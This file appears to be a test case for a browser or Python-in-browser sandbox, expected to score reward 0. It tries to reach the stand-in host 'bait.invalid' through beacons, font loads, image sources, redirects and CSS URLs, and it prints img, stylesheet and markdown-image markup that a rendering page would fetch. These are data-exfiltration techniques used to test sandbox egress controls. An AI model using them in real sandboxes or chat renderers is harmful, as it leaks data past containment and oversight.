# problem: slow-march
# expect: reward 0
# why: asks the browser for small favours that reach the network: beacons, images, fonts, styles, pings

import js

URL = "http://bait.invalid/beacon"
for attempt in (
    lambda: js.navigator.sendBeacon(URL, "secret"),
    lambda: js.FontFace.new("f", f"url({URL})").load(),
    lambda: js.Image.new().setAttribute("src", URL),
    lambda: js.createImageBitmap(js.Response.redirect(URL)),
    lambda: js.OffscreenCanvas.new(1, 1).getContext("2d").drawImage(URL, 0, 0),
    lambda: js.Notification.new("x"),
    lambda: js.reportError(js.URL.new(URL)),
    lambda: js.console.log("%c ", f"background: url({URL})"),
    lambda: js.performance.mark(URL),
):
    try:
        attempt()
    except BaseException:
        pass
# A page that shows output as markup would fetch these.
print(f"<img src='{URL}-image'><link rel=stylesheet href='{URL}-style'>![x]({URL}-markdown)")
